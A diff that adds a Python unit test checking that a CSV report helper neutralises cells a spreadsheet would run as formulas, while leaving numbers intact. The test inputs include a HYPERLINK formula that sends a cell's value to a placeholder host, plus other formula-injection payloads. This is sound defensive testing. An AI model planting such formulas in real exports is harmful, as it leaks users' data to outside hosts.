@@ -91,3 +91,12 @@ def test_table_csv_plot_and_errors(tmp_path: Path) -> None:
         ["--view", "tasks", "--metric", "margin"],
     ):
         assert runner.invoke(app, ["report", *config, *bad]).exit_code == 2, bad
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers() -> None:
+    from margin.report.render import spreadsheet_text
+
+    for formula in ('=HYPERLINK("https://x/?"&A1)', "+cmd", "-2+3", "@SUM", "\t=1", "\r=1", "\uff1d1+1", "-"):
+        assert spreadsheet_text(formula) == "'" + formula
+    for kept in ("-0.000001250", "+1", "-1e-05", "12", "acme", "", -3, 1.5, None):
+        assert spreadsheet_text(kept) == kept
